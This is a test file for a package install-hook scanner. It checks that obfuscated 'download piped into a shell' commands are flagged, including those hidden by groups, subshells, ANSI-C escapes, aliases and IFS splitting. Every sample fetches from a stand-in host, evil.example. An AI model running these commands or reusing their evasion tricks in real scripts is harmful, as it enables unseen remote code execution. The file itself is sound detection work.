/**
 * Pins that the hook scan reads shell constructs that hide a download piped into a shell (issue
 * 31): the output of a compound command — a `{ …; }` group, a `( … )` subshell, `if … fi`,
 * `while`/`for … done`, `case … esac`, also spread over lines — feeds the pipe after it; `|&` is a
 * pipe; `$'\x63url'` is decoded before it is read; an `alias` is expanded where a command is named;
 * an unquoted `${IFS}` splits words, and `IFS=,` splits later unquoted expansions at commas.
 * Ordinary compound commands, aliases and IFS settings raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

const DL = 'install.download-exec';
const U = 'https://evil.example/i.sh';

describe('hook scan: compound commands, |&, ANSI-C quoting, aliases and IFS', () => {
  it.each([
    ['a { } group piped into sh', [`{ curl -fsSL ${U}; } | sh`], 2],
    ['a group that prints more after the download', [`{ curl -fsSL ${U}; echo; } | sh`], 2],
    ['a ( ) subshell whose last command is not the download', [`( curl -fsSL ${U}; echo ) | bash`], 2],
    ['a subshell inside a group', [`{ ( curl -fsSL ${U} ); } | sh`], 2],
    ['if … fi piped into sh', [`if true; then curl -fsSL ${U}; fi | sh`], 2],
    ['an else branch piped into sh', [`if false; then :; else wget -qO- ${U}; fi | sh`], 2],
    ['a for loop piped into sh', [`for u in ${U}; do curl -fsSL "$u"; done | sh`], 2],
    ['a while loop piped into sh', [`while true; do curl -fsSL ${U}; break; done | sh`], 2],
    ['case … esac piped into sh', [`case x in x) curl -fsSL ${U};; esac | sh`], 2],
    ['a group spread over lines', ['{', `  curl -fsSL ${U}`, '} | sh'], 4],
    ['if … fi spread over lines', ['if true; then', `  curl -fsSL ${U}`, 'fi | bash'], 4],
    ['|& as a pipe', [`curl -fsSL ${U} |& sh`], 2],
    ['|& after a group', [`{ curl -fsSL ${U}; } |& sh`], 2],
    ['a subshell as the reader', [`curl -fsSL ${U} | ( sh )`], 2],
    ["$'\\x63url' (hex escapes)", [String.raw`$'\x63url' -fsSL ${U} | sh`], 2],
    ["$'\\143url' (octal escapes)", [String.raw`$'\143\165rl' -fsSL ${U} | sh`], 2],
    ["$'\\u0073h' as the shell", [String.raw`curl -fsSL ${U} | $'\u0073h'`], 2],
    ['an ANSI-C string assigned, then run', [String.raw`c=$'\x63url'`, `$c -fsSL ${U} | sh`], 3],
    ['an alias of curl', ["alias get='curl -fsSL'", `get ${U} | sh`], 3],
    ['an alias of sh', ['alias run=sh', `curl -fsSL ${U} | run`], 3],
    ['an alias of an alias', ['alias a=curl', 'alias b=a', `b -fsSL ${U} | sh`], 4],
    ['an alias used after a keyword', ["alias get='curl -fsSL'", `if true; then get ${U}; fi | sh`], 3],
    // A text rule sees `curl…|sh` on one line whatever the blanks: these download, then run on a later line, which needs the words.
    ['${IFS} as the blank', [`curl\${IFS}-fsSLo\${IFS}t\${IFS}${U}`, 'chmod +x t'], 3],
    ['$IFS as the blank', [`wget$IFS-qO$IFS./t$IFS"${U}"`, './t'], 3],
    ['IFS=, splitting a variable into words', ['IFS=,', `c=curl,-fsSLo,t,${U}`, '$c', 'sh t'], 5],
  ])('flags %s', async (_what, lines, at) => {
    expect(await installFindings(...lines)).toContain(`${DL}@INSTALL:${at}`);
  });

  it("reads a decoded $'…' word as the rules that read the text see it", async () => {
    expect(await installFindings(String.raw`$'\x73udo' cp payload/t bin/t`)).toEqual(['install.privilege@INSTALL:2']);
  });

  it.each([
    ['a group that prints a message into sh', ['{ echo "echo hi"; } | sh']],
    [
      'if … fi whose output is written to a file',
      [`if true; then curl -fsSL -o t.json https://x.example/t.json; fi > log.txt`],
    ],
    ['a download in a group not piped anywhere', [`{ curl -fsSL -o var/d.json https://x.example/d.json; } || true`]],
    [
      'a subshell after a download on the line',
      [`curl -fsSL -o var/d.json https://x.example/d.json; ( echo done ) | sh`],
    ],
    ['an alias after its unalias', ["alias get='curl -fsSL'", 'unalias get', `get ${U} | sh`]],
    ['an ANSI-C string that is only printed', [String.raw`echo $'\x63url' | cat`]],
    ['strict mode IFS and a loop over words', ["IFS=$'\\n\\t'", 'for f in a b; do echo "$f"; done']],
    ['IFS= for read alone', ['printf "a b\\n" | while IFS= read -r l; do echo "$l"; done']],
    ['a saved and restored IFS', ['OLDIFS=$IFS', 'IFS=,', 'set -- a,b', 'IFS=$OLDIFS', 'echo "$1"']],
  ])('does not flag %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
